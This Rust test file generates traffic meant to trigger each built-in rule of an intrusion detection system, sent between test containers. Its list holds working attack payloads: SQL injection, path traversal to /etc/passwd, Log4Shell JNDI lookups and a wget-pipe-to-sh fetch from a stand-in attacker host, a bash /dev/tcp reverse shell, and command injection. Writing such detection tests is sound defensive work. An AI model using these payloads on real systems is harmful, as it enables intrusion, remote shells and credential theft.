//! Traffic that makes each built-in rule fire, sent from a busybox
//! container to a victim container that serves HTTP and echoes on the
//! cleartext-protocol ports.

/// What the victim runs: HTTP on 80, and an echo on each TCP port the
/// attacks use (FTP, Telnet, SMTP, POP3, IMAP, a raw port).
pub const VICTIM: &[&str] = &[
    "sh",
    "-c",
    "mkdir -p /www && echo ok > /www/index.html && httpd -p 80 -h /www && \
     for p in 21 23 25 110 143 4444; do nc -ll -p $p -e cat & done; wait",
];

/// (sid, shell command run in the attacker) for every built-in rule.
pub fn builtin_rule_attacks(victim: &str) -> Vec<(u64, String)> {
    // `timeout`, not wget's -T: busybox 1.35's static wget crashes with -T.
    let http = |args: &str, path: &str| format!("timeout 5 wget -q -O /dev/null {args} 'http://{victim}{path}'");
    let tcp = |port: u16, payload: &str| format!("printf '{payload}' | timeout 3 nc {victim} {port}");
    let dns = |name: &str| format!("timeout 3 nslookup {name} {victim}");
    let long = "a".repeat(55);
    let labels = ["b".repeat(45), "c".repeat(45), "d".repeat(45), "e".repeat(45)].join(".");
    vec![
        (9_100_001, http("-U 'sqlmap/1.7.2#stable (https://sqlmap.org)'", "/")),
        (9_100_002, http("-U 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'", "/")),
        (9_100_003, http("-U 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'", "/")),
        (9_100_004, http("-U 'Mozilla/5.0 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'", "/")),
        (9_100_005, http("-U 'Mozilla/5.0 zgrab/0.x'", "/")),
        (9_100_006, http("-U 'gobuster/3.6'", "/admin")),
        (9_100_007, http("-U 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)'", "/wp-login.php")),
        (9_100_010, http("", "/item?id=1+UNION+ALL+SELECT+username,password+FROM+users")),
        (9_100_011, http("", "/login?user=admin%27+or+%271%27=%271")),
        (9_100_012, http("", "/item?id=1+AND+sleep(5)")),
        (9_100_013, http("--post-data \"user=admin' or '1'='1&pass=x\"", "/login")),
        (9_100_020, http("", "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts")),
        (9_100_021, http("", "/cgi-bin/view?file=/etc/passwd")),
        (9_100_022, http("", "/.git/config")),
        (9_100_030, http("", "/?q=%24%7Bjndi:ldap://attacker.portwarden.test/a%7D")),
        (9_100_031, http("--header 'X-Api-Version: ${jndi:ldap://attacker.portwarden.test/a}'", "/")),
        (9_100_032, tcp(4444, "${jndi:ldap://attacker.portwarden.test/a}\\n")),
        (9_100_040, http("", "/cgi-bin/ping?host=127.0.0.1;cat+/etc/passwd")),
        (9_100_041, http("--post-data 'host=127.0.0.1; whoami'", "/cgi-bin/ping")),
        (9_100_042, tcp(4444, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\\n")),
        (9_100_043, http("", "/run?cmd=wget+http://attacker.portwarden.test/x.sh+|+sh")),
        (9_100_050, tcp(21, "USER anonymous\\r\\nPASS secret\\r\\n")),
        (9_100_051, tcp(23, "root\\r\\n")),
        (9_100_052, tcp(110, "USER bob\\r\\nPASS secret\\r\\n")),
        (9_100_053, tcp(143, "a1 LOGIN bob secret\\r\\n")),
        (9_100_054, tcp(25, "EHLO portwarden.test\\r\\nAUTH PLAIN AGJvYgBzZWNyZXQ=\\r\\n")),
        (9_100_055, http("--header 'Authorization: Basic Ym9iOnNlY3JldA=='", "/private")),
        (9_100_060, dns(&format!("{long}.tunnel.portwarden.test"))),
        (9_100_061, dns(&format!("{labels}.portwarden.test"))),
        (9_100_062, dns("dnscat.4f2a.portwarden.test")),
    ]
}

/// The sids of the built-in rules, read from the rule file itself.
pub fn builtin_sids() -> Vec<u64> {
    portwarden_nids::BUILTIN_RULES
        .lines()
        .filter(|l| l.starts_with("alert"))
        .filter_map(|l| l.split("sid:").nth(1)?.split(';').next()?.trim().parse().ok())
        .collect()
}
